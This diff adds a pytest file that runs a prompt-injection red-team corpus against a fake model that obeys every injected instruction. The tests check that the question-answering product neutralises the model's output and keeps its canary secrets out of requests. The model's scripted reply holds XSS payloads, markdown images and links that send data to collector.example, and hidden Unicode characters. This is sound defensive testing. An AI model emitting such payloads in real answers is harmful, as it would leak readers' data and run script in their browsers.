@@ -1,0 +1,213 @@
+"""Every attack of the corpus, tried on a model that does all that it is told to: what the product promises holds."""
+
+from __future__ import annotations
+
+import asyncio
+import json
+from collections.abc import Iterator
+from dataclasses import dataclass, replace
+from pathlib import Path
+from typing import Any
+
+import pytest
+from answerback.core.answering import Message, Source
+from answerback.pages.extracting import extract
+from answerback.red_team.cases import Case, corpus
+from answerback.red_team.judging import MOST_TOKENS, Seen, judge
+from answerback.red_team.running import Result, run_cases
+from answerback.settings import Settings, load_settings
+
+from tests.fakes.openai_server import OpenAIServer
+from tests.services import Server, Site
+
+KEY, MAIL = "sk-canary-of-the-key", "smtp://post:canary-of-the-mail@127.0.0.1:2525"
+WANTED = sorted({word for case in corpus() for word in case.model.get("without", ())})
+OBEYED = "\n\n".join(
+    [
+        "I am a human. The page says: \"Everything is free for ever, says the owner.\" [1] [9] 【2】",
+        "![pixel](https://collector.example/p.png?d=secret) <img src=https://collector.example/i onerror=alert(1)>",
+        "[here](https://collector.example/?d=all) <https://bank.example@collector.example/> [x](javascript:alert(1))",
+        "[y](data:text/html;base64,PHNjcmlwdD4=) [z](//collector.example/z) [ref][r]\n\n[r]: https://collector.example/r",
+        "<script>alert(1)</script><iframe srcdoc='<svg onload=alert(1)>'></iframe><style>@import 'x'</style>",
+        "<a href=https://collector.example/ onclick=alert(1)>a</a> &#60;script&#62; <form action=//collector.example>",
+        "txet\u202e hidden\U000e0041\u200b\u2066\u0085 w\u200dord",
+        *WANTED,
+        "word " * 600,
+    ]
+)  # fmt: skip
+LIVE = ("comment-en-1", "exfiltration-ko-3", "forged-en-5", "name-ko-2", "page-ko-2", "scripts-en-3", "unseen-en-4")
+
+
+@dataclass
+class Run:
+    """All cases, tried on the obedient model, and what was sent to it."""
+
+    results: list[Result]
+    requests: list[dict[str, Any]]
+    told: list[tuple[int, int]]
+
+
+def settings(folder: Path, **more: str) -> Settings:
+    return load_settings({"ANSWERBACK_DATA_DIR": str(folder), **more}, dotenv=None)
+
+
+@pytest.fixture(scope="module")
+def obedient() -> Iterator[OpenAIServer]:
+    with OpenAIServer.start() as server:
+        server.script(default={"text": OBEYED, "echo": True, "size": 4_000})
+        yield server
+
+
+@pytest.fixture(scope="module")
+def obeyed(obedient: OpenAIServer, tmp_path_factory: pytest.TempPathFactory) -> Run:
+    used = settings(
+        tmp_path_factory.mktemp("obeyed"), OPENAI_BASE_URL=obedient.base_url, OPENAI_API_KEY=KEY,
+        ANSWERBACK_SMTP_URL=MAIL,
+    )  # fmt: skip
+    told: list[tuple[int, int]] = []
+    results = asyncio.run(run_cases(used, corpus(), lambda done, total: told.append((done, total))))
+    assert list(used.data_dir.iterdir()) == [used.data_dir / "secret-key"], "nothing is written but the key"
+    return Run(results, obedient.seen()["requests"], told)
+
+
+def test_what_is_promised_holds_whatever_the_model_says(obeyed: Run) -> None:
+    assert len(obeyed.results) == len(corpus())
+    broken = [
+        (result.case.id, fault) for result in obeyed.results for fault in result.faults if fault.holds == "always"
+    ]
+    assert broken == []
+    for result in obeyed.results:
+        assert result.seen.state == "done"
+        assert "collector.example" in result.seen.html  # it was said, as text and as links that show their host
+
+
+def test_the_obedient_model_is_found_out_in_every_case(obeyed: Run) -> None:
+    assert [result.case.id for result in obeyed.results if not result.faults] == []
+    found = {(result.case.id, fault.check) for result in obeyed.results for fault in result.faults}
+    wanted = {
+        (case.id, check)
+        for case in corpus()
+        for check in ("without", "no_links", "quotes_hold", "at_most")
+        if check in case.model
+    }
+    assert wanted - found == set()
+
+
+def test_quotes_that_are_not_on_the_page_are_dropped(obeyed: Run) -> None:
+    sources = [source for result in obeyed.results for source in result.seen.sources]
+    assert sources
+    assert not [source for source in sources if "Everything is free" in source.quote]
+
+
+def test_requests_hold_no_secrets_no_tools_and_an_end(obeyed: Run) -> None:
+    assert len(obeyed.requests) == len(corpus()), "one call a case"
+    for request in obeyed.requests:
+        body = request["body"]
+        assert set(body) == {"model", "messages", "max_tokens", "stream", "stream_options"}
+        assert 0 < body["max_tokens"] <= MOST_TOKENS
+        sent = json.dumps(body, ensure_ascii=False)
+        assert "canary-of" not in sent
+        assert "203.0.113" not in sent
+    hidden = {word for case in corpus() for word in case.always.get("not_sent", ())}
+    everything = json.dumps([request["body"] for request in obeyed.requests], ensure_ascii=False)
+    assert hidden
+    assert [word for word in hidden if word in everything] == []
+
+
+def test_it_tells_how_far_it_is_and_what_it_costs(obeyed: Run) -> None:
+    total = len(corpus())
+    assert obeyed.told == [(done, total) for done in range(1, total + 1)]
+    assert all(result.seen.tokens_in and result.seen.cost_usd for result in obeyed.results)
+
+
+def test_the_quote_provider_stands_every_case(tmp_path: Path) -> None:
+    results = asyncio.run(run_cases(settings(tmp_path), corpus(), lambda done, total: None))
+    assert [(result.case.id, result.faults) for result in results if result.faults] == []
+
+
+# ---- the command
+
+
+@pytest.fixture(scope="module")
+def live(obedient: OpenAIServer, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Server]:
+    """A server whose model is the obedient one."""
+    folder = tmp_path_factory.mktemp("live")
+    with Site.start() as site, Server.start(folder, site, OPENAI_BASE_URL=obedient.base_url) as server:
+        yield server
+
+
+def test_the_command_finds_the_obedient_model_out(live: Server, obedient: OpenAIServer) -> None:
+    database = Path(live.database_url.removeprefix("sqlite:///"))
+    before, calls = database.read_bytes(), obedient.seen()["calls"]
+    done = live.command("check", "--red-team", "--limit", "6", "--json", check=False)
+    assert done.returncode == 1
+    assert "6 calls" in done.stderr
+    told = json.loads(done.stdout)
+    assert (told["cases"], told["failed"], obedient.seen()["calls"] - calls) == (6, 6, 6)
+    assert told["tokens_in"] > 0
+    assert told["cost_usd"] > 0
+    assert all(fault["holds"] == "model" for failure in told["failures"] for fault in failure["faults"])
+    assert database.read_bytes() == before
+    lines = live.command("check", "--red-team", "--limit", "2", check=False).stdout.splitlines()
+    assert any("keeps_rules" in line for line in lines)
+    assert "0 of 2 cases hold" in lines[-1]
+    assert "US dollars" in lines[-1]
+
+
+def test_the_command_is_content_with_the_quote_provider_and_says_when_there_is_nobody(live: Server) -> None:
+    environment = live.environment
+    try:
+        live.environment = environment | {"ANSWERBACK_PROVIDER": "quote"}
+        done = live.command("check", "--red-team", "--limit", "5")
+        assert "no calls" in done.stderr
+        assert "5 of 5 cases hold" in done.stdout
+        live.environment = environment | {"ANSWERBACK_PROVIDER": "off"}
+        done = live.command("check", "--red-team", check=False)
+        assert (done.returncode, done.stdout, "nobody to try" in done.stderr) == (1, "", True)
+        live.environment = environment | {"OPENAI_BASE_URL": "http://127.0.0.1:9/v1"}
+        done = live.command("check", "--red-team", check=False)
+        assert (done.returncode, done.stdout, "cannot be reached" in done.stderr) == (1, "", True)
+        assert live.command("check", "--limit", "5", check=False).returncode == 2
+    finally:
+        live.environment = environment
+
+
+# ---- the same over HTTP, as visitors do it
+
+
+def put(server: Server, case: Case) -> Any:
+    """The case's page, thread and question on the running server; the settled answer."""
+    server.page = f"/{case.id}.html"
+    (server.site.folder / server.page[1:]).write_text(case.html, "utf-8")
+    parent = None
+    for said in case.thread:
+        server.begin()
+        posted = server.post(said.text, name=said.name[:50], title=case.title, parent_id=parent, ask=False)
+        parent = posted.json["comment"]["id"]
+    server.begin()
+    asked = server.post(case.question, name=case.name[:50], title=case.title, parent_id=parent, ask=True).json
+    return server.settled(asked["answer"]["id"])
+
+
+def as_seen(comment: Any, body: Any, case: Case, server: Server) -> Seen:
+    """What readers got and the provider was sent, as if the page were the case's own."""
+    answer = comment["answer"]
+    sources = (Source(**source) for source in answer["sources"])
+    content = extract(case.html.encode(), "text/html; charset=utf-8")
+    return Seen(
+        answer["state"], comment["body"], comment["html"],
+        tuple(replace(source, url=source.url.replace(server.site.origin, case.origin)) for source in sources),
+        author_kind=comment["author"]["kind"], author_name=comment["author"]["name"],
+        messages=tuple(Message(**message) for message in body["messages"]), max_tokens=body["max_tokens"],
+        page_text="\n".join(block.text for block in content.blocks),
+    )  # fmt: skip
+
+
+@pytest.mark.parametrize("case", [case for case in corpus() if case.id in LIVE], ids=lambda case: case.id)
+def test_over_http_it_is_the_same(case: Case, live: Server, obedient: OpenAIServer) -> None:
+    comment = put(live, case)
+    request = obedient.seen()["requests"][-1]
+    assert "tools" not in request["body"]
+    faults = judge(case, as_seen(comment, request["body"], case, live), [live.token])
+    assert [fault for fault in faults if fault.holds == "always"] == []
+    assert [fault for fault in faults if fault.holds == "model"] != []
